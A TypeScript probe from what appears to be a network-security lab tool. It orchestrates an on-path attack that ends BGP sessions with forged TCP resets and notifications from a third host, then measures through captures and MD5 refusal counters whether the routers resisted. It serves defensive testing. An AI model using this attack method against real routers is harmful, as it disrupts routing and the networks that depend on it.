import { z } from 'zod';

import { commandFailed } from '../exec/command.ts';
import { LabError } from '../model/errors.ts';
import { InterfaceName, NodeName } from '../model/ids.ts';
import type { Attempt, Observation } from '../model/observation.ts';
import { forgedWindow, type Forgeries, forgeriesIn, hitsIn } from './bgp/forgeries.ts';
import {
  interfaceWith,
  isSameSession,
  plannedSessions,
  type PlannedSession,
  readSessions,
  type SessionState,
} from './bgp/sessions.ts';
import { type Capture, pollUntil, startCapture } from './capture.ts';
import { defineProbe, type ProbeContext } from './probe.ts';
import { raiseInterface } from './raise-interface.ts';

const Params = z.strictObject({
  attacker: NodeName.describe('A third host on the segment of the two routers'),
  interface: InterfaceName.describe('Its interface on that segment; raised for the attack if it is down'),
  victim: NodeName.describe('One router of the session'),
  neighbour: NodeName.describe('The other router'),
  count: z
    .number()
    .int()
    .min(1)
    .max(20)
    .default(2)
    .describe('Forged notifications, and as many resets, for each end of each session'),
});
type Params = z.infer<typeof Params>;

/** Both ends of the sessions: a forgery that only one end believes ends the session too. */
interface Ends {
  readonly victim: ReadonlyMap<string, SessionState>;
  readonly neighbour: ReadonlyMap<string, SessionState>;
  /** Segments that each kernel refused for want of a signature (TcpExtTCPMD5NotFound, TcpExtTCPMD5Failure). */
  readonly refused: { readonly victim: number; readonly neighbour: number };
}

/** Where the attack is watched. */
interface Captures {
  readonly attacker: Capture;
  readonly victim: Capture;
  readonly neighbour: Capture;
}

/** What came of the attack. */
interface Outcome {
  readonly before: Ends;
  /** When the last forged segment had arrived. */
  readonly arrived: Ends;
  readonly after: Ends;
}

/** Overhears the BGP sessions of others and forges segments into them that end them. */
export const bgpReset = defineProbe({
  name: 'bgp-reset',
  summary:
    'From a third host on the segment, overhears BGP sessions and ends them with forged TCP resets and notifications.',
  params: Params,
  exclusive: true,
  undoMs: 15_000,
  nodes: ({ attacker, victim, neighbour }) => [attacker, victim, neighbour],
  observe,
});

async function observe(params: Params, context: ProbeContext): Promise<Observation> {
  const { network, plan, signal } = context;
  const { attacker, interface: iface, victim, neighbour } = params;
  const sessions = plannedSessions(plan, victim, neighbour);
  const before = await settledEnds(sessions, params, context);
  requireEstablished(sessions, before, params);

  const raised = await raiseInterface(network, attacker, iface, [], signal);
  const captures: Capture[] = [];
  try {
    const listen = async (node: string, at: string, filter = 'tcp port 179'): Promise<Capture> => {
      const capture = await startCapture(network, node, at, filter, signal);
      captures.push(capture);
      return capture;
    };
    const [ours, theirs] = (['local', 'remote'] as const).map((end) => sessions.map((it) => it[end]));
    const [at, there, here] = await Promise.all([
      listen(attacker, iface, forgedFilter),
      listen(victim, interfaceWith(plan, victim, ours ?? [])),
      listen(neighbour, interfaceWith(plan, neighbour, theirs ?? [])),
    ]);
    return await attack(params, sessions, before, { attacker: at, victim: there, neighbour: here }, context);
  } finally {
    await Promise.all(captures.map((it) => it.stop()));
    await raised.stop();
    // What the attack broke heals by itself; nothing else may look at the network before.
    await pollUntil(
      async () => {
        const states = await readSessions(network, victim, AbortSignal.timeout(5000));
        return sessions.every(({ remote }) => states.get(remote)?.state === 'Established');
      },
      10_000,
      100,
    );
  }
}

/** tcpdump looks into TCP by name for IPv4 only: byte 14 there is byte 54 of an IPv6 packet. */
const forgedFilter = `(tcp port 179 and tcp[14:2] = ${forgedWindow}) or (ip6 proto 6 and ip6[54:2] = ${forgedWindow})`;

async function attack(
  params: Params,
  sessions: readonly PlannedSession[],
  before: Ends,
  captures: Captures,
  context: ProbeContext,
): Promise<Observation> {
  const missed = (ends: Ends): PlannedSession[] =>
    sessions.filter((it) => !hasEnded(it, before, ends) && !isHitThroughout(it, captures));
  let arrived = before;
  // A busy computer forges too late; then the next volley does.
  for (let volley = 0; volley < 3; volley += 1) {
    await fire(params, volley === 0 ? sessions : missed(arrived), captures, context);
    arrived = await readEnds(params, context);
    if (missed(arrived).length === 0) break;
  }
  // Of each session it shows whether it has ended, or goes on in spite of all; until then nothing is known.
  let after = arrived;
  const settled = (it: PlannedSession): boolean =>
    hasEnded(it, before, after) || refusal(it, sessions, { before, arrived, after }, captures) !== undefined;
  await pollUntil(
    async () => {
      if (sessions.every(settled)) return true;
      after = await readEnds(params, context);
      return sessions.every(settled);
    },
    holdMs,
    50,
  );
  const outcome = { before, arrived, after };
  return {
    attempts: sessions.map((session) => attemptOf(session, sessions, params, outcome, captures)),
    evidence: [
      await captures.attacker.keep(
        context,
        `forged-${params.attacker}`,
        `Forged segments that left ${params.attacker}`,
      ),
      await keepStates(params, sessions, outcome, context),
    ],
  };
}

/** Forges, and waits until all of it has arrived. */
async function fire(
  params: Params,
  sessions: readonly PlannedSession[],
  { attacker, victim, neighbour }: Captures,
  { network, signal }: ProbeContext,
): Promise<void> {
  const argv = [tool, orderOf(sessions, params)];
  const result = await network.node(params.attacker).exec(argv, { signal, timeoutMs: forgeMs + 5000 });
  if (result.exitCode !== 0) throw commandFailed(result);
  await pollUntil(
    () =>
      sessions.every(
        (session) =>
          total(forgeries(attacker, session, 'to-victim')) <= total(forgeries(victim, session, 'to-victim')) &&
          total(forgeries(attacker, session, 'to-neighbour')) <= total(forgeries(neighbour, session, 'to-neighbour')),
      ),
    2000,
  );
}

const tool = '/usr/lib/breakwater/attacks/reset-sessions';

/** Each answers a segment that was overheard: there are some every second. */
const forgeMs = 6000;

function orderOf(sessions: readonly PlannedSession[], { interface: iface, count }: Params): string {
  const pairs = sessions.map(({ local, remote }) => [local, remote]);
  return JSON.stringify({ interface: iface, sessions: pairs, count, seconds: forgeMs / 1000 });
}

type Direction = 'to-victim' | 'to-neighbour';
const directions: readonly Direction[] = ['to-victim', 'to-neighbour'];

function wayOf({ local, remote }: PlannedSession, direction: Direction): readonly [string, string] {
  return direction === 'to-victim' ? [remote, local] : [local, remote];
}

function forgeries(capture: Capture, session: PlannedSession, direction: Direction): Forgeries {
  return forgeriesIn(bytesOf(capture), ...wayOf(session, direction));
}

function bytesOf(capture: Capture): Buffer[] {
  return capture.frames().map((it) => it.bytes);
}

function total({ resets, notifications }: Forgeries): number {
  return resets + notifications;
}

/** Whether each end got a reset and a notification that it had to believe if it asks for no signature. */
function isHitThroughout(session: PlannedSession, captures: Captures): boolean {
  return directions.every((direction) => {
    const capture = direction === 'to-victim' ? captures.victim : captures.neighbour;
    const hits = hitsIn(bytesOf(capture), ...wayOf(session, direction));
    return hits.resets > 0 && hits.notifications > 0;
  });
}

/**
 * What shows that a session took none of it: the kernels have counted every forged segment as unsigned, or both
 * ends went on hearing each other afterwards. Two messages, for one may have been on its way.
 */
function refusal(
  session: PlannedSession,
  sessions: readonly PlannedSession[],
  { before, arrived, after }: Outcome,
  captures: Captures,
): 'unsigned' | 'went on' | undefined {
  if (!isHitThroughout(session, captures) || hasEnded(session, before, after)) return undefined;
  const unsigned = (['victim', 'neighbour'] as const).every((end) => {
    const got = sessions.map((it) => total(forgeries(captures[end], it, `to-${end}`)));
    return after.refused[end] - before.refused[end] >= got.reduce((sum, it) => sum + it, 0);
  });
  if (unsigned) return 'unsigned';
  const heard = (end: 'victim' | 'neighbour', address: string): number =>
    (after[end].get(address)?.messagesReceived ?? 0) - (arrived[end].get(address)?.messagesReceived ?? 0);
  return heard('victim', session.remote) >= 2 && heard('neighbour', session.local) >= 2 ? 'went on' : undefined;
}

async function readEnds({ victim, neighbour }: Params, { network, signal }: ProbeContext): Promise<Ends> {
  const refused = (node: string): Promise<number> =>
    network
      .node(node)
      .exec(['nstat', '-asz', 'TcpExtTCPMD5NotFound', 'TcpExtTCPMD5Failure'], { signal })
      .then(({ stdout }) => sumOfCounters(stdout));
  const [states, neighbourStates, atVictim, atNeighbour] = await Promise.all([
    readSessions(network, victim, signal),
    readSessions(network, neighbour, signal),
    refused(victim),
    refused(neighbour),
  ]);
  return { victim: states, neighbour: neighbourStates, refused: { victim: atVictim, neighbour: atNeighbour } };
}

/** Adds up what `nstat` prints: `TcpExtTCPMD5NotFound            3                  0.0`. */
export function sumOfCounters(text: string): number {
  return [...text.matchAll(/^\w+\s+(\d+)/gm)].reduce((sum, [, value]) => sum + Number(value), 0);
}

/** The hold time of the routers, 9 s, and a little for the session to open again. */
const holdMs = 12_000;

/**
 * A session that only one end believes in cannot be attacked: nothing passes that could be overheard.
 * Routers that drop resets have such sessions after a restart, until the hold timer expires (RFC 4271, section 6.5).
 */
async function settledEnds(sessions: readonly PlannedSession[], params: Params, context: ProbeContext): Promise<Ends> {
  let ends = await readEnds(params, context);
  // A session that neither end has is not on its way back.
  if (sessions.every((it) => believersIn(it, ends) !== 1)) return ends;
  await pollUntil(
    async () => {
      ends = await readEnds(params, context);
      return sessions.every((it) => believersIn(it, ends) === 2);
    },
    holdMs,
    200,
  );
  return ends;
}

/** How many ends of a session have it as Established. */
function believersIn({ local, remote }: PlannedSession, { victim, neighbour }: Ends): number {
  return [victim.get(remote), neighbour.get(local)].filter((it) => it?.state === 'Established').length;
}

function requireEstablished(sessions: readonly PlannedSession[], ends: Ends, { victim, neighbour }: Params): void {
  const down = sessions.filter((it) => believersIn(it, ends) < 2).map(({ remote }) => remote);
  if (down.length === 0) return;
  throw new LabError(
    'not-ready',
    `there is nothing to reset: ${victim} has no Established session with ${neighbour} (${down.join(', ')})`,
    {
      hint: `breakwater exec ${victim} -- vtysh -c 'show bgp summary'`,
    },
  );
}

function hasEnded({ local, remote }: PlannedSession, before: Ends, after: Ends): boolean {
  const changed = (was: SessionState | undefined, is: SessionState | undefined): boolean =>
    was !== undefined && !isSameSession(was, is);
  return (
    changed(before.victim.get(remote), after.victim.get(remote)) ||
    changed(before.neighbour.get(local), after.neighbour.get(local))
  );
}

function attemptOf(
  session: PlannedSession,
  sessions: readonly PlannedSession[],
  params: Params,
  outcome: Outcome,
  captures: Captures,
): Attempt {
  const { attacker, interface: iface, victim, neighbour } = params;
  const { family, local, remote } = session;
  const { before, after } = outcome;
  const left = directions.map((it) => forgeries(captures.attacker, session, it));
  const frames = left.reduce((sum, it) => sum + total(it), 0);
  const forged = `${frames} forged segments`;
  // A session that ended without a segment of ours ended for another reason, and proves nothing.
  const reset = frames > 0 && hasEnded(session, before, after);
  const how = refusal(session, sessions, outcome, captures);
  const dropped = [before, after].map((it) => it.victim.get(remote)?.dropped ?? 0);
  return {
    label: `forged segments into the session ${local} – ${remote}`,
    role: 'try',
    family,
    from: attacker,
    to: victim,
    sent: reset || left.every((it) => it.resets > 0 && it.notifications > 0),
    succeeded: reset,
    ...(how === undefined ? {} : { proof: 'counted' as const }),
    seen: reset
      ? `after ${forged} the session of ${victim} and ${neighbour} had ended (sessions dropped so far: ${dropped.join(' → ')})`
      : how === 'unsigned'
        ? `${forged} arrived with the numbers that were expected, the kernels refused all of them as unsigned, and the session goes on`
        : how === 'went on'
          ? `${forged} arrived with the numbers that were expected, and afterwards both ends went on hearing each other`
          : `${forged} left, and nothing shows that both ends got them in time and went on in spite of them`,
    repeat: `breakwater exec ${attacker} -- sh -c 'ip link set ${iface} up && ${tool} "$0"' '${orderOf([session], params)}'`,
  };
}

async function keepStates(
  { victim, neighbour }: Params,
  sessions: readonly PlannedSession[],
  { before, after }: Outcome,
  { keep }: ProbeContext,
) {
  const line = (when: string, node: string, address: string, state: SessionState | undefined): string =>
    `${when} ${node} ${address}: ${state?.state ?? 'no session'}, dropped ${state?.dropped ?? 0} times, since ${new Date((state?.since ?? 0) * 1000).toISOString()}`;
  const excerpt = sessions
    .flatMap(({ local, remote }) =>
      [before, after].flatMap((ends, index) => [
        line(index === 0 ? 'before' : 'after ', victim, remote, ends.victim.get(remote)),
        line(index === 0 ? 'before' : 'after ', neighbour, local, ends.neighbour.get(local)),
      ]),
    )
    .concat(
      (['victim', 'neighbour'] as const).map(
        (end) =>
          `unsigned segments refused (TcpExtTCPMD5NotFound + TcpExtTCPMD5Failure) by ${end === 'victim' ? victim : neighbour}: ${before.refused[end]} → ${after.refused[end]}`,
      ),
    )
    .join('\n');
  const command = `breakwater exec ${victim} -- sh -c "vtysh -c 'show bgp neighbors' | grep -E 'neighbor is|dropped|Last reset'; nstat -az TcpExtTCPMD5NotFound"`;
  return {
    kind: 'counter' as const,
    title: 'The sessions before and after',
    file: await keep('sessions.txt', excerpt),
    command,
    excerpt,
  };
}
